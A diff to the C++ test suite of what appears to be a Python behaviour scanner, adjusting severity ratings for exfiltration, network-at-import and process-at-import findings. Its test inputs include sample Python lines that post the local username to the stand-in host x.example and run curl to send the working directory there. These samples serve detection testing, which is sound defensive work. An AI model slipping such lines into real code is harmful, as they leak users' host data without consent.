@@ -350,7 +350,13 @@ TEST(Behaviour, ExecOfComputedCode) {
 
 TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
   ExpectFinding("import requests, getpass\nrequests.post('https://x.example', data=getpass.getuser())\n",
-                "exfiltration", Severity::kHigh, Phase::kRuntime);
+                "exfiltration", Severity::kCritical, Phase::kRuntime);
+  // The same in a function of a runtime module is no beacon: two steps less.
+  auto in_def = Analyze("import requests, getpass\ndef f():\n"
+                        "    requests.post('https://x.example', data=getpass.getuser())\n",
+                        Phase::kRuntime);
+  ASSERT_NE(Find(in_def, "exfiltration"), nullptr) << Rules(in_def);
+  EXPECT_LE(Find(in_def, "exfiltration")->severity, Severity::kMedium);
   // A setting read from the environment is not a host fact: one step less.
   auto fs = Analyze("import os, requests\nrequests.post(os.environ['URL'], data='x')\n", Phase::kRuntime);
   ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
@@ -380,9 +386,13 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
                 "download-exec", Severity::kHigh, Phase::kRuntime);
   ExpectFinding("import os\nos.popen(f\"curl -s http://x.example/{os.getcwd()}\")\n", "network-at-import");
   ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
-                "process-at-import", Severity::kHigh);
+                "process-at-import", Severity::kCritical);
   ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
                 "process-at-import", Severity::kHigh);
+  // A script file, not code on the command line: high, not critical.
+  auto script = Analyze("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n");
+  ASSERT_NE(Find(script, "process-at-import"), nullptr) << Rules(script);
+  EXPECT_EQ(Find(script, "process-at-import")->severity, Severity::kHigh);
   // Any process started merely by importing is worth a look (high), but the
   // message tells an interpreter launch from an ordinary command.
   auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
